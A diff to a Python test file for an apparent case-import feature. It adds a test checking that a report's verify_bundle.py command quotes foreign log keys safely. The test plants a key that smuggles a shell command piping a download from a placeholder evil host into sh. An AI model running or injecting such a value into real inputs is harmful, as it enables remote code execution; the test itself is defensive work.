@@ -1,6 +1,7 @@
 """The import of a case as a job: by steps, taken up where another worker was killed, and wholly undone where it does not finish."""
 
 import html
+import shlex
 from collections.abc import Callable
 from contextlib import suppress
 from datetime import timedelta
@@ -241,6 +242,18 @@ def test_its_report_says_how_their_log_is_checked_and_not_ours(made: CaseUpload,
     foreign = ForeignCase.objects.get()
     for text in (foreign.origin, foreign.fingerprint, foreign.manifest, "--console-key", "By telephone"):
         assert text in page, text
-    assert all(f"--key '{key}'" in page for key in foreign.log_keys)
+    assert all(f"--key {key} " in page for key in foreign.log_keys)
     assert "not sealed yet" not in page
     assert f"case-{here.public_id}-timeline.bundle.jsonl" not in page
+
+
+def test_the_command_that_its_report_says_takes_no_orders_from_the_other_console(
+    made: CaseUpload, lea: User, client: Client
+) -> None:
+    here = carry_in(made, lea)
+    key = "a';curl${IFS}evil.example|sh;'+0123abcd+AAAA"
+    ForeignCase.objects.filter(case=here).update(log_keys=[key])
+    client.force_login(lea)
+    page = html.unescape(client.get(f"/cases/{here.public_id}/report/").content.decode())
+    command = page[page.index("python verify_bundle.py") : page.index("THE-BUNDLE.case.zip")]
+    assert shlex.split(command.replace("\\\n", " "))[2:4] == ["--key", key]
